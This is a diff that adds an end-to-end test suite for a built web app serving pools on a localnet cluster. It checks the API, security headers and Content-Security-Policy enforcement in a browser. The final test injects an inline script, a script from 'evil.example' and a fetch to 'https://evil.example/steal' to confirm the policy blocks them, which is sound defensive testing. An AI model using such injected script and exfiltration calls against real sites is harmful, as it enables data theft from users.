@@ -1,0 +1,164 @@
+import { execFile } from 'node:child_process';
+import { mkdir, mkdtemp, rm } from 'node:fs/promises';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { promisify } from 'node:util';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { hasChromium, launchChromium } from '#tests/e2e/support/chromium.ts';
+import { createTestPool, eventually, startCluster, type TestCluster } from '../dev/cluster.ts';
+import { type ServerProcess, startServerProcess } from './server-process.ts';
+
+const ROOT = fileURLToPath(new URL('../../..', import.meta.url));
+const VITE = join(ROOT, 'node_modules/vite/bin/vite.js');
+
+let cluster: TestCluster;
+let dist: string;
+let server: ServerProcess;
+
+/** What `npm run build` does, into a folder of its own. */
+const build = async (args: string[], environment: Record<string, string> = {}): Promise<void> => {
+  await promisify(execFile)(process.execPath, [VITE, 'build', '--logLevel', 'error', ...args], {
+    cwd: ROOT,
+    env: { ...process.env, NODE_ENV: 'production', ...environment },
+  });
+};
+
+beforeAll(async () => {
+  cluster = await startCluster();
+  // Below the project, for the server finds its packages there.
+  await mkdir(join(ROOT, 'dist'), { recursive: true });
+  dist = await mkdtemp(join(ROOT, 'dist/test-'));
+  await build(['--outDir', join(dist, 'app')], {
+    VITE_CLUSTER: 'localnet',
+    VITE_RPC_URL: `http://127.0.0.1:${cluster.port}`,
+    VITE_WS_URL: '',
+    VITE_API_BASE: '/api',
+  });
+  await build(['--config', 'vite.server.config.ts', '--outDir', join(dist, 'server')]);
+  await createTestPool(cluster, { maxPlayers: 5, joiners: 1 });
+  server = await startServerProcess({
+    main: join(dist, 'server/main.js'),
+    environment: {
+      NODE_ENV: 'production',
+      STATE_DIR: cluster.stateDir,
+      LOCALNET_PORT: String(cluster.port),
+      APP_CONNECT_ORIGINS: 'https://prices.example',
+    },
+  });
+}, 240_000);
+afterAll(async () => {
+  server?.signal('SIGTERM');
+  await server?.ended;
+  await cluster?.close();
+  if (dist !== undefined) await rm(dist, { recursive: true, force: true });
+});
+
+describe('the built product', { timeout: 120_000 }, () => {
+  it('serves app, API and sockets from one port', async () => {
+    await eventually(async () => {
+      const pools: unknown = await (await fetch(`${server.url}/api/pools`)).json();
+      expect(pools).toMatchObject({ data: [{ name: 'Test pool', currentParticipants: 2 }] });
+    }, 30_000);
+    const health: unknown = await (await fetch(`${server.url}/api/health`)).json();
+    expect(health).toMatchObject({ status: 'ok', cluster: 'localnet' });
+    const polled = await fetch(`${server.url}/api/socket.io/?EIO=4&transport=polling`);
+    expect(polled.status).toBe(200);
+    expect(polled.headers.get('x-content-type-options')).toBe('nosniff');
+    const unknown = await fetch(`${server.url}/api/nothing`);
+    expect(unknown.status).toBe(404);
+    expect(await unknown.json()).toMatchObject({ error: { code: 'not_found' } });
+  });
+
+  it('sends its page with headers that name what it may run and speak to', async () => {
+    const page = await fetch(`${server.url}/pools`, { headers: { 'accept-encoding': 'br' } });
+    expect(Object.fromEntries(page.headers)).toMatchObject({
+      'content-encoding': 'br',
+      'cache-control': 'no-cache',
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'permissions-policy': expect.stringContaining('camera=()'),
+    });
+    const policy = page.headers.get('content-security-policy') ?? '';
+    expect(policy).toContain("script-src 'self';");
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(/connect-src ([^;]*)/.exec(policy)?.[1]?.split(' ')).toEqual([
+      "'self'",
+      `ws://127.0.0.1:${server.port}`,
+      `http://127.0.0.1:${cluster.port}`,
+      `ws://127.0.0.1:${cluster.port + 1}`,
+      'https://prices.example',
+    ]);
+    const html = await page.text();
+    const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? '';
+    const asset = await fetch(`${server.url}${script}`, { headers: { 'accept-encoding': 'br' } });
+    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
+    expect(asset.headers.get('content-encoding')).toBe('br');
+  });
+
+  describe.runIf(hasChromium())('in a browser', () => {
+    let browser: Browser;
+    beforeAll(async () => {
+      browser = await launchChromium();
+    });
+    afterAll(() => browser?.close());
+
+    /** Everything that the browser refuses or complains of. */
+    const complaintsOf = async (page: Page): Promise<string[]> => {
+      const complaints: string[] = [];
+      page.on('pageerror', (error) => complaints.push(error.message));
+      page.on('console', (message) => {
+        if (message.type() === 'error') complaints.push(message.text());
+      });
+      await page.exposeFunction('complain', (text: string) => complaints.push(text));
+      await page.addInitScript(() => {
+        document.addEventListener('securitypolicyviolation', (event) => {
+          const { complain } = window as unknown as { complain: (text: string) => void };
+          complain(`${event.violatedDirective} refuses ${event.blockedURI}`);
+        });
+      });
+      return complaints;
+    };
+
+    it('runs under its own headers on every page, and shows pools', async () => {
+      const page = await browser.newPage({ baseURL: server.url });
+      const complaints = await complaintsOf(page);
+      const sockets: string[] = [];
+      page.on('websocket', (socket) => sockets.push(socket.url()));
+      for (const path of [
+        '/',
+        '/how-it-works',
+        '/pool-completion',
+        '/activity',
+        '/vrf-transparency',
+        '/pools',
+      ]) {
+        await page.goto(path);
+        await page.locator('main h1').first().waitFor();
+      }
+      await page.getByText('Test pool').first().waitFor();
+      expect(sockets.some((url) => url.startsWith(`ws://127.0.0.1:${cluster.port + 1}`))).toBe(true);
+      expect(complaints).toEqual([]);
+      await page.close();
+    });
+
+    it('lets nothing else run: a script in the page, a script or a request of another host', async () => {
+      const page = await browser.newPage({ baseURL: server.url });
+      const complaints = await complaintsOf(page);
+      await page.goto('/');
+      await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.taken = true';
+        document.head.append(script);
+        const foreign = document.createElement('script');
+        foreign.src = 'https://evil.example/x.js';
+        document.head.append(foreign);
+        fetch('https://evil.example/steal').catch(() => undefined);
+      });
+      await expect.poll(() => complaints.filter((text) => text.includes(' refuses ')).length).toBe(3);
+      expect(await page.evaluate('window.taken')).toBeUndefined();
+      await page.close();
+    });
+  });
+});
